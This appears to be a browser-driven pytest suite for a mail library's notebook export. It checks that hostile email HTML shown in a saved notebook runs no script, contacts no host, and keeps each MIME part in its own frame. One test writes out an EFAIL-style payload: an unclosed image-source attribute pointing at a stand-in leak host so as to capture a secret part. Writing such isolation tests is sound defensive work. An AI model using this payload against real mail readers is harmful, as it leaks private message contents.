"""In a real browser, whatever hostile mail and servers say, a saved notebook runs nothing and asks nobody.

The notebook is run by a kernel, saved, and exported by nbconvert. Every name that its mail mentions leads to a server
that records each request, and chromium's log shows each name that it looked up or connected to. The same mail in a page
of its own is the control: it does all that. It is opened last, so when its requests are there, those of the notebook
would be, too.
"""

import html
import json
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from docs.notebooks import exported
from tests import ROOT
from tests.browser import Browser, Tab, Web, browsing, serving
from tests.notebook.hostile import ASKS, CELLS, LINKS, RUNS, hostile_html
from tests.timing import GENEROUS, eventually

#: The frames of one card are side by side in it; each page of the mail has three links in its upper left corner.
FRAMES = "[...document.querySelectorAll('iframe')].map(f => {const r = f.getBoundingClientRect(); return [r.x, r.y]})"


def saved(directory: Path, *cells: str) -> bytes:
    """Run cells, save the notebook, read it again, and return it as a page."""
    source, to = directory / "source.ipynb", directory / "saved.ipynb"
    nbformat.write(new_notebook(cells=[new_code_cell(cell) for cell in cells]), source)
    command = [sys.executable, "-m", "docs.notebooks", str(source), str(to)]
    subprocess.run(command, cwd=ROOT, check=True, timeout=2 * GENEROUS, capture_output=True)
    notebook = nbformat.read(to, as_version=4)
    assert all("text/html" in output.data for cell in notebook.cells for output in cell.outputs)
    return exported(notebook).encode()


@pytest.fixture
def opened(installed: Callable[[str], list[str]], tmp_path: Path) -> Callable[..., Iterator[tuple[Browser, Web]]]:
    """Start a browser for which every host is the same server."""
    program = installed("chromium")

    @contextmanager
    def start(**pages: bytes) -> Iterator[tuple[Browser, Web]]:
        with serving(**pages) as web:
            hosts = f"--host-resolver-rules=MAP *.example 127.0.0.1:{web.port}"
            with browsing(program, tmp_path, hosts, f"--log-net-log={tmp_path / 'net.json'}") as browser:
                yield browser, web

    return start


def asked(web: Web, mark: str) -> set[str]:
    """Return which addresses with this mark were asked for: the first part of the host."""
    return {url.partition(".")[0] for url in web.asked if mark in url}


def named(log: Path, mark: str) -> set[str]:
    """Return the hosts with this mark in chromium's log of its network: looked up, connected to, or asked."""
    text = log.read_text("utf-8")
    assert json.loads(text)["events"]
    return set(re.findall(rf"(\w+)\.{mark}\.example", text))


def page(mark: str) -> bytes:
    """Return the HTML of the hostile mail as a page of its own."""
    return f"<!DOCTYPE html><title>{mark}</title>{hostile_html(mark)}".encode()


def click_everywhere(tab: Tab) -> int:
    """Click at the links of every frame; return how many frames there are."""
    frames = tab.evaluate(FRAMES)
    for x, y in frames:
        for down in LINKS:
            tab.click(x + 40, y + down)
    return len(frames)


@pytest.mark.threat(115)
@pytest.mark.threat(116)
@pytest.mark.threat(118)
def test_nothing_runs_and_nothing_is_asked_for(
    opened: Callable[..., Iterator[tuple[Browser, Web]]], tmp_path: Path
) -> None:
    """Not when it is shown, and not when its links are clicked; the control asks for all, and runs all."""
    with opened(quiet=saved(tmp_path, *CELLS), loud=page("loud")) as (browser, web):
        quiet = browser.open(f"http://127.0.0.1:{web.port}/quiet", height=9000)
        eventually(lambda: quiet.text().count("the page is shown") >= 6)  # three messages, two pages each
        assert click_everywhere(quiet) >= 6
        browser.open(f"http://127.0.0.1:{web.port}/loud")
        web.wait_for(*(f"/{name}-loud" for name in (*ASKS, *RUNS)))
        assert asked(web, "quiet") == set()
        assert quiet.evaluate("document.title") == "Notebook"
        assert quiet.evaluate("document.scripts.length") == quiet.evaluate(
            "[...document.scripts].filter(one => !one.textContent.includes('quiet')).length"
        )
    assert named(tmp_path / "net.json", "quiet") == set()
    assert {"preconnect", *ASKS} <= named(tmp_path / "net.json", "loud")


@pytest.mark.threat(118)
def test_remote_loads_images_and_styles_alone(
    opened: Callable[..., Iterator[tuple[Browser, Web]]], tmp_path: Path
) -> None:
    """With `remote=True`, the frames ask for images and style sheets, and for nothing else; no script runs."""
    cells = (CELLS[0].replace("quiet", "remote"), "message.show(remote=True)")
    images = {"img", "srcset", "background", "style", "poster", "input", "noscript"}
    sheets = {"import", "link", "linkafter"}
    with opened(remote=saved(tmp_path, *cells), loud=page("loud")) as (browser, web):
        tab = browser.open(f"http://127.0.0.1:{web.port}/remote", height=3000)
        eventually(lambda: tab.text().count("the page is shown") >= 2)
        web.wait_for(*(f"/{name}-remote" for name in images | sheets))
        assert click_everywhere(tab) == 2
        browser.open(f"http://127.0.0.1:{web.port}/loud")
        web.wait_for(*(f"/{name}-loud" for name in (*ASKS, *RUNS)))
        assert asked(web, "remote") == images | sheets
        assert tab.evaluate("document.title") == "Notebook"
    assert named(tmp_path / "net.json", "remote") == images | sheets


def test_a_click_reaches_a_link_in_a_frame(opened: Callable[..., Iterator[tuple[Browser, Web]]]) -> None:
    """The control of the clicks: in a frame that is only a frame, the same click follows the same link."""
    link = hostile_html("clicked").split("</a>")[0].rpartition("<a")[2]
    frame = html.escape(f"<!DOCTYPE html><a{link}</a>")
    with opened(frame=f'<!DOCTYPE html><title>x</title><iframe srcdoc="{frame}"></iframe>'.encode()) as (browser, web):
        tab = browser.open(f"http://127.0.0.1:{web.port}/frame")
        eventually(lambda: "click" in tab.text())
        click_everywhere(tab)
        web.wait_for("/click-clicked")


@pytest.mark.threat(117)
def test_each_part_has_a_frame_of_its_own(opened: Callable[..., Iterator[tuple[Browser, Web]]], tmp_path: Path) -> None:
    """A part that ends inside an attribute does not swallow the next one, as it would if they were joined (EFAIL)."""
    first, second = '<img src="http://leak.parts.example/', '<b>the secret part</b>">'
    mail = "Content-Type: multipart/mixed; boundary=b\r\n\r\n" + "".join(
        f"--b\r\nContent-Type: text/html\r\n\r\n{part}\r\n" for part in (first, second)
    )
    cell = f"from pymailbox import Content\nContent.from_bytes({mail.encode()!r}).show(remote=True)"
    with opened(parts=saved(tmp_path, cell)) as (browser, web):
        tab = browser.open(f"http://127.0.0.1:{web.port}/parts")
        eventually(lambda: "the secret part" in tab.text())
        assert len(tab.evaluate(FRAMES)) == 2
        assert not any("secret" in url for url in web.asked)
